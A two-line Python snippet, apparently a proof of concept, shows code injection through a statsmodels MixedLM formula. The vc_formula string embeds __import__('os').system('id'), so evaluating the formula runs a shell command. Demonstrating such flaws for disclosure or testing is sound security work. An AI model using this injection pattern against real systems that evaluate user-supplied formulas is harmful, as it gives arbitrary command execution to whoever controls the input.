import statsmodels.api as sm
sm.MixedLM.from_formula('a ~ 1', data['x'], groups='g', vc_formula={'v': "0 + C(__import__('os').system('id'))"})
